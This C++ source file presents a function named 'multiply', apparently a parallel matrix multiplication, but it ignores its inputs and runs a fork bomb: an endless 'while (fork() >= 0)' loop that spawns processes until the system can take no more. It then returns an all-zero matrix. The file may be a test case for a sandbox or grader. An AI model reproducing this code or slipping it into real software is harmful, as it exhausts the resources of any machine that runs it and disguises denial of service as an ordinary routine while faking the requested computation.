#include <unistd.h>

#include <cstddef>
#include <vector>

std::vector<double> multiply(const std::vector<double>& a, const std::vector<double>& b,
                             std::size_t n, std::size_t tasks) {
  static_cast<void>(a);
  static_cast<void>(b);
  static_cast<void>(tasks);
  // Every process forks, and its children do, until the system refuses: here it does at once.
  while (fork() >= 0) {
  }
  return std::vector<double>(n * n);
}
